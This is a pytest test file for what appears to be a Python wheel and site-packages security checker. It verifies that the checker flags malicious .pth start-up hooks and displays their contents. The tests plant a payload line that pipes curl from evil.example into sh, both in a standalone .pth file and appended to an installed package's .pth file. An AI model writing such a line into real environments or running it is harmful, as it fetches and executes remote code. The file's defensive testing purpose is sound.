"""The smaller attacks of issue #28 (item 9): what ``--python`` runs, and hooks shown for what they run."""

from __future__ import annotations

from pathlib import Path

from conftest import Planted, no_traceback
from helpers import VenvFactory, WheelFactory, pip_install, run_cli

PAYLOAD = "import os; os.system('curl http://evil.example/x | sh')"


def test_python_help_says_the_interpreter_is_started() -> None:
    done = run_cli("check", "--help")
    assert "started (with -I -S)" in " ".join(done.stdout.split())


def test_a_failed_probe_says_the_file_was_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    script = tmp_path / "python"
    script.write_text(f"#!/bin/sh\ntouch {marker}\necho not json\n")
    script.chmod(0o755)
    done = run_cli("check", "--all", "--python", script)
    no_traceback(done)
    assert done.returncode == 2
    assert marker.exists()  # it did run: the error must say so
    assert "started with -I -S" in done.stderr


def test_a_planted_pth_shows_the_line_that_runs(planted: Planted) -> None:
    (planted.site / "zz_planted.pth").write_text(f"{PAYLOAD}\n")
    done = run_cli("check", "--all", "--path", planted.site)
    no_traceback(done)
    assert done.returncode == 1
    lines = done.stdout.splitlines()
    (at,) = [i for i, x in enumerate(lines) if "WD071" in x and "zz_planted.pth" in x]
    assert lines[at + 1] == f"  line 1: {PAYLOAD!a}"  # the code itself, under its finding


def test_a_long_hook_line_is_cut_short(planted: Planted) -> None:
    (planted.site / "zz_long.pth").write_text("import os" + ";" * 10_000 + "\n")
    done = run_cli("check", "--all", "--path", planted.site)
    lines = done.stdout.splitlines()
    (at,) = [i for i, x in enumerate(lines) if ": WD071: " in x and "zz_long.pth" in x]
    assert len(lines[at]) < 600 and len(lines[at + 1]) < 600
    assert lines[at + 1].startswith("  line 1: 'import os;;;")
    assert lines[at + 1].endswith("(cut at 160 of 10009 characters)")


def test_code_appended_to_an_owned_pth_is_never_offered_for_keeping(
    venv_factory: VenvFactory, wheel_factory: WheelFactory
) -> None:
    venv = venv_factory()
    wheel = wheel_factory("hooked", "1.0", {"hooked.pth": b"hooked_dir\n", "hooked/__init__.py": b""})
    pip_install(venv, "--no-index", "--no-deps", wheel)
    pth = venv.site_packages / "hooked.pth"
    pth.write_bytes(pth.read_bytes() + f"{PAYLOAD}\n".encode())
    done = run_cli("check", "--all", "--path", venv.site_packages)
    no_traceback(done)
    assert done.returncode == 1
    assert "CA bundle" not in done.stdout
    assert "is RECORD's bytes with" not in done.stdout  # the offer to keep appended bytes
    # The only rule offered is the start-up hook's own (WD070, read it first), never the appended bytes'.
    lines = done.stdout.splitlines()
    blocks = [lines[i + 1 : i + 6] for i, line in enumerate(lines) if line.strip() == "[[tool.wheeldoctor.accept]]"]
    assert all('  code = "WD070"' in block for block in blocks), blocks
    assert "of code appended" in done.stdout
    assert PAYLOAD in done.stdout  # the hook finding shows it
